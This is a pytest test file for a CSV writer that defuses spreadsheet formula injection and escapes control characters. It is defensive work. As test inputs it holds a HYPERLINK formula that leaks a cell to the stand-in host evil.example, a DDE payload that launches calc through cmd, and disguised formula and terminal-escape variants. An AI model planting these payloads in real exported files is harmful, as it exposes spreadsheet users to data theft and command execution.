"""Every CSV govchain writes opens in a spreadsheet as text (govchain.csvout): a cell that a
spreadsheet would run as a formula starts with an apostrophe, control characters are escaped."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from govchain.csvout import cell, starts_a_formula, table

HOSTILE = '=HYPERLINK("http://evil.example/?"&B2,"open")'


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HOSTILE, "'" + HOSTILE),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "\\t=1+1"),  # escaped, so no longer a formula's start
        ("\r=1+1", "\\r=1+1"),
        ("living subsidy case", "living subsidy case"),
        ("低保申请", "低保申请"),
        ("a = b", "a = b"),  # only the first character counts
        (
            "\uff1dHYPERLINK(1)",
            "'\uff1dHYPERLINK(1)",
        ),  # full-width, as a Chinese input method types it
        ("\ufe661+1", "'\ufe661+1"),
        ("\uff0b1", "'\uff0b1"),
        ("\uff0d1", "'\uff0d1"),
        ("\uff20SUM(A1)", "'\uff20SUM(A1)"),
        (" =1+1", "' =1+1"),  # an importer may trim the space
        ("\u3000=1+1", "'\u3000=1+1"),
        ("\xa0=1+1", "'\xa0=1+1"),
        ("\u200b=1+1", "'\u200b=1+1"),  # invisible, then a formula
        ("\ufeff=1+1", "'\ufeff=1+1"),
        ("\u2060=1", "'\u2060=1"),
        ("  低保", "  低保"),
        ("red \x1b[31mALERT\x1b[0m", "red \\x1b[31mALERT\\x1b[0m"),
        ("right\u202etfel", "right\\u202etfel"),
        ("two\nlines", "two\nlines"),
        (None, ""),
        (0, 0),
        (-5, -5),  # a number is a number
        (True, True),
    ],
)
def test_a_cell_is_made_inert(value: object, written: object) -> None:
    assert cell(value) == written


def test_the_table_quotes_what_it_must_and_reads_back() -> None:
    text = table(
        ["time", "purpose", "block"],
        [["2026-11-30T00:00:00Z", HOSTILE, 7], ["t", 'a "q", b\nc', None]],
    )
    assert read_back(text) == [
        ["time", "purpose", "block"],
        ["2026-11-30T00:00:00Z", "'" + HOSTILE, "7"],
        ["t", 'a "q", b\nc', ""],
    ]
    assert text.endswith("\r\n")


@given(st.lists(st.one_of(st.none(), st.integers(), st.text()), min_size=1, max_size=6))
def test_no_cell_of_any_row_starts_a_formula_or_holds_a_control(values: list[object]) -> None:
    rows = read_back(table([f"c{i}" for i in range(len(values))], [values]))
    assert len(rows) == 2 and len(rows[1]) == len(values)
    for value, written in zip(values, rows[1], strict=True):
        if isinstance(value, str):
            assert written.startswith("'") or not starts_a_formula(written)
            assert not any((ord(c) < 0x20 and c != "\n") or 0x7F <= ord(c) <= 0x9F for c in written)
            # what a reader sees is the text, escaped where it had to be: nothing is dropped
            assert len(written) >= len(value)
        else:
            assert written == ("" if value is None else str(value))
